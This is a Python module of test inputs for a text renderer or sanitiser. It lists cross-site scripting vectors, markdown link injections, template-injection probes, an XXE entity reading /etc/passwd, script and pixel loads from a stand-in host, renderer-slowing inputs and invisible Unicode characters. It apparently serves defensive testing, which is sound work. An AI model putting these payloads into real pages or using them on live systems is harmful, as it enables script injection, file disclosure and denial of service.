"""Texts that try something: scripts in a page, fetches by a reader, templates, slow rendering, hidden marks, other people's roles."""

from itertools import product

_ELEMENTS = [
    "<script>x()</script>", "<ScRiPt>x()</sCrIpT>", "<script/src=//e.example/x></script>", "<script\n>x()</script\n>", "<scr<script>ipt>x()</scr</script>ipt>",
    "<svg><script>x()</script></svg>", "<svg><script>x&#40;)</script>", "<svg><a xlink:href=javascript:x()><text y=9>a</text></a></svg>",
    "<svg><animate onbegin=x() attributeName=x dur=1s>", "<svg><use href=//e.example/x.svg#x></use></svg>", "<svg><foreignObject><iframe src=//e.example></foreignObject></svg>",
    "<math><mi//xlink:href=\"data:x,<script>x()</script>\">", "<math><annotation-xml encoding=text/html><img src=x onerror=x()></annotation-xml></math>",
    "<iframe src=javascript:x()>", "<iframe srcdoc='<script>x()</script>'>", "<object data=javascript:x()>", "<embed src=//e.example/x.swf>", "<applet code=x>",
    "<form action=//e.example><input name=a autofocus>", "<button formaction=javascript:x()>x", "<isindex action=javascript:x() type=image>",
    "<base href=//e.example/>", "<meta http-equiv=refresh content='0;url=//e.example'>", "<link rel=stylesheet href=//e.example/x.css>", "<link rel=prefetch href=//e.example>",
    "<style>*{background:url(//e.example)}</style>", "<style>@import '//e.example/x.css'</style>", "<p style=background:url(//e.example)>x", "<p style='position:fixed;inset:0'>x",
    "<table background=//e.example>", "<td background=//e.example>", "<bgsound src=//e.example>", "<layer src=//e.example></layer>", "<frameset><frame src=javascript:x()></frameset>",
    "<video><source onerror=x()></video>", "<video poster=//e.example>", "<audio src=//e.example/x.ogg autoplay>", "<picture><source srcset=//e.example/x></picture>",
    "<img src=//e.example/pixel.gif>", "<img srcset='//e.example 1x'>", "<img src=x:x onerror=x()>", "<img/src/onerror=x()>", "<img src=`x`onerror=x()>", "<image src=x onerror=x()>",
    "<input type=image src=//e.example>", "<details open ontoggle=x()>", "<marquee onstart=x()>", "<dialog open onclose=x()>", "<portal src=//e.example>", "<keygen autofocus onfocus=x()>",
    "<template><script>x()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=x()>\">", "<textarea><script>x()</script>", "<title><script>x()</script></title>",
    "</textarea><script>x()</script>", "</title><script>x()</script>", "</p><script>x()</script>", "\"><script>x()</script>", "'><script>x()</script>", "--><script>x()</script>", "]]><script>x()</script>",
    "<!--><script>x()</script-->", "<!--[if gte IE 4]><script>x()</script><![endif]-->", "<![CDATA[<script>x()</script>]]>", "<?xml version='1.0'?><script>x()</script>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<a href=javascript:x()>x</a>", "<a href='java&Tab;script:x()'>x</a>", "<a href=\"&#x6A;avascript:x()\">x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>", "<a href=vbscript:x()>x</a>", "<a target=_blank href=//e.example>x</a>", "<a href=x id=write>x</a>",
    "<div id=write class=button contenteditable>x</div>", "<x onclick=x()>x", "<x contenteditable onblur=x()>x", "<xss style='xss:expression(x())'>", "<a ping=//e.example href=x>x</a>",
    "+ADw-script+AD4-x()+ADw-/script+AD4-", "\xbcscript\xbex()\xbc/script\xbe", "\uff1cscript\uff1ex()\uff1c/script\uff1e", "%3Cscript%3Ex()%3C/script%3E", "&lt;script&gt;x()&lt;/script&gt;", "&#60;script&#62;x()&#60;/script&#62;", "\\x3cscript\\x3ex()\\x3c/script\\x3e", "\\u003cscript\\u003ex()",
    "';x()//", "\";x()//", "</script><script>x()</script>", "javascript:x()", "JaVaScRiPt:x()", "java\nscript:x()", "data:text/html,<script>x()</script>", "`${x()}`",
]  # fmt: skip
_LINKS = [
    "[x](javascript:x())", "[x](JaVaScRiPt:x())", "[x](java\nscript:x())", "[x]( javascript:x())", "[x](&#106;avascript:x())", "[x](javascript&colon;x())", "[x](javascript&#58;x())", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x())", "[x](file:///etc/passwd)",
    "[x](//e.example/x)", "[x](\\\\e.example\\x)", "[x](http://safe.example@e.example/)", "[x](https://safe.example%40e.example/)", "[x](http://x.example\" onmouseover=\"x())", "[x](<http://x.example/ \"onmouseover=x()>)", "[x](http://x.example 'onclick=x()')", "<javascript:x()>", "<data:text/html,x>",
    "![x](http://e.example/pixel.gif)", "![x][1]\n\n[1]: http://e.example/pixel.gif", "[x]: javascript:x()\n\n[x]", "[x][y]\n\n[y]: javascript:x()", "[<img src=x onerror=x()>](http://x.example)", "[x](http://x.example/<script>x()</script>)", "[https://safe.example](https://e.example)", "[x](mailto:a@b.example)", "[x](tel:+1)", "[x](blob:x)", "http://e.example/<script>",
]  # fmt: skip
_EVENTS = "click dblclick mouseover mouseenter pointerdown focus blur load error input change submit reset toggle wheel scroll copy cut paste drag drop keydown animationstart transitionend beforeinput".split()
_AT = ["<p on{0}=x()>x</p>", "<b/on{0}=x()>x", "<a href=# ON{0}='x()'>x</a>", "<svg on{0}=x()>"]

# Scripts, fetches and attributes, as public lists have them: more than two hundred.
VECTORS = [*_ELEMENTS, *_LINKS, *(form.format(event) for form, event in product(_AT, _EVENTS))]

TEMPLATES = "{{7*7}} {% load x %} ${7*7} #{7*7} %(x)s %s {0.__class__} {x!r} <%= 7*7 %> {{request.user}}"

# What makes a renderer slow, each at the length that a post may have.
BOMBS = {
    "brackets": "[" * 5000, "stars": "*" * 5000, "stars apart": "* " * 2500, "quotations": ">" * 5000, "emphasis": "*a_ " * 1250, "emphasis inside": "**a *b " * 700, "links": "[a](" * 1250, "angles": "<" * 5000, "openings": "<a" * 2500,
    "lists": "\n".join(" " * min(n, 8) + "- a" for n in range(500)), "deep lists": "- " * 2500, "numbers": "1. " * 1600, "references": "\n".join(f"[{n}]: http://x.example/{n}" for n in range(150)), "uses": "[1]" * 1600 + "\n\n[1]: x",
    "back ticks": "`" * 5000, "back ticks apart": "`a" * 2500, "entities": "&" * 5000, "entities begun": "&a" * 2500, "escapes": "\\" * 5000, "addresses": "http://a." * 550, "autolinks": "<http://a" * 550, "marks": "a" + "\u0301" * 4999, "tables": "|" * 5000, "tables of lines": "|a|\n|-|\n" * 600, "underscores": "_" * 5000, "tildes": "~" * 5000,
}  # fmt: skip

# What nobody sees, and what turns the direction of what follows.
UNSEEN = {
    "direction": "\u202e\u202d\u2066\u2067\u2068\u200e\u200f\u061c", "zero width": "\u200b\u2060\ufeff\u00ad\u034f\u180e", "tags": "".join(map(chr, range(0xE0020, 0xE0060))), "fillers": "\u115f\u1160\u3164\uffa0",
    "variation selectors": "\ufe00\ufe0f\U000e0100\U000e01ef", "invisible operators": "\u2061\u2062\u2063\u2064", "old ones": "\u206a\u206f\ufff9\ufffb", "musical": "\U0001d173\U0001d17a",
}  # fmt: skip

# One text that fits a short field and tries several of these.
EVIL = "'\"><script>x()</script><img src=//e.example onerror=x()>"
